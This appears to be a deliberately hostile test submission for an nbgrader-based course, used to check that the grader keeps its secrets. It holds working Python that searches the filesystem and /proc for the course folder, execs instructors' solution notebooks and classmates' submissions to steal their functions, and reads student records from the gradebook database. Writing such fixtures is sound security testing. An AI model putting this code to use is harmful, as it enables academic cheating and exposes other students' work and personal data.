"""Hostile submission with no code of its own, written for an nbgrader course: it walks up from
$PWD, the current directory, its own __file__ and every /proc/<pid>/cwd it can see, looking for
the course folder (source/, release/, submitted/, autograded/, feedback/, gradebook.db,
course.yml); it execs the source notebooks' solutions, then classmates' submissions, and reads
the gradebook with sqlite3.  Without them it raises, with a digest of what it read.

See catalogue.yml for what the grader must report (and tests/test_secrecy.py)."""
import glob
import json
import os

NAMES = ("padding_mask", "causal_mask", "attention_mask", "sinusoidal_encoding", "add_positional_encoding",
         "scaled_dot_product_attention", "MultiHeadAttention", "lstm_cell", "gru_cell", "lstm_sequence",
         "masked_cross_entropy")
COURSE = ("source", "release", "submitted", "autograded", "feedback", "gradebook.db", "course.yml",
          "nbgrader_config.py")
STOLEN, SEEN = {}, []
DONE = []


def _starts():
    out = [os.environ.get("PWD"), os.environ.get("OLDPWD"), os.getcwd(), os.path.dirname(os.path.abspath(__file__))]
    for cwd in glob.glob("/proc/*/cwd"):
        try:
            out.append(os.readlink(cwd))
        except OSError:
            pass
    return [p for p in out if p]


def _cells(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as f:
            nb = json.load(f)
        return "\n".join("".join(c.get("source", "")) for c in nb.get("cells", []) if c.get("cell_type") == "code")
    except (OSError, ValueError, AttributeError):
        return ""


def _take(text, where):
    ns = {"__name__": "stolen"}
    try:
        exec(compile("\n".join(ln for ln in text.splitlines() if not ln.lstrip().startswith(("%", "!"))),
                     where, "exec"), ns)
    except BaseException:  # noqa: BLE001
        pass
    for n in NAMES:
        if callable(ns.get(n)) and n not in STOLEN:
            STOLEN[n] = ns[n]


def _read_gradebook(path):
    try:
        import sqlite3
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        rows = con.execute("select * from student").fetchall()
        SEEN.append(f"{path}: students {rows[:20]}")
    except Exception as e:  # noqa: BLE001
        SEEN.append(f"{path}: {type(e).__name__}")


def _steal():
    if DONE:
        return
    DONE.append(1)
    for start in _starts():
        d = os.path.abspath(start)
        while True:
            hits = [n for n in COURSE if os.path.exists(os.path.join(d, n))]
            if hits:
                SEEN.append(f"{d}: {hits}")
                for nb in sorted(glob.glob(os.path.join(d, "source", "*", "*.ipynb"))):
                    text = _cells(nb)
                    SEEN.append(f"{nb}: {text.strip()[:80]}")
                    _take(text, nb)
                for nb in sorted(glob.glob(os.path.join(d, "submitted", "*", "*", "*.ipynb"))
                                 + glob.glob(os.path.join(d, "autograded", "*", "*", "*.ipynb"))):
                    text = _cells(nb)
                    SEEN.append(f"{nb}: {text.strip()[:80]}")
                    _take(text, nb)
                if os.path.exists(os.path.join(d, "gradebook.db")):
                    _read_gradebook(os.path.join(d, "gradebook.db"))
                for name in ("course.yml", "nbgrader_config.py"):
                    try:
                        with open(os.path.join(d, name), encoding="utf-8") as f:
                            SEEN.append(f"{name}: {f.read(200)}")
                    except OSError:
                        pass
            if d == "/":
                break
            d = os.path.dirname(d)


def _delegate(name):
    def stolen(*args, **kwargs):
        _steal()
        if name in STOLEN:
            return STOLEN[name](*args, **kwargs)
        raise LookupError(f"nothing to steal for {name}; read: " + " | ".join(SEEN)[:3000])
    stolen.__name__ = name
    return stolen


for _n in NAMES:
    globals()[_n] = _delegate(_n)
